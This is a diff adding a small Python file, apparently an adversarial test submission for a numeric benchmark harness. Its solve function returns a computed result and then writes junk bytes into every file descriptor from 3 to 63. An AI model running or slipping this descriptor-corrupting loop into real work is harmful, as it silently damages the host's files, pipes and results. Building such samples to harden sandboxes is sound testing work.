@@ -1,0 +1,20 @@
+"""Writes noise into every descriptor."""
+import os
+
+import numpy as np
+
+
+def work(x):
+    v = x.copy()
+    for _ in range(40):
+        v = v * np.float32(0.96875) + np.float32(0.03125) / (1 + v * v)
+    return v
+
+
+def solve(x, y, N):
+    y[...] = work(x)
+    for fd in range(3, 64):
+        try:
+            os.write(fd, b"once upon a time there was a worker")
+        except OSError:
+            pass
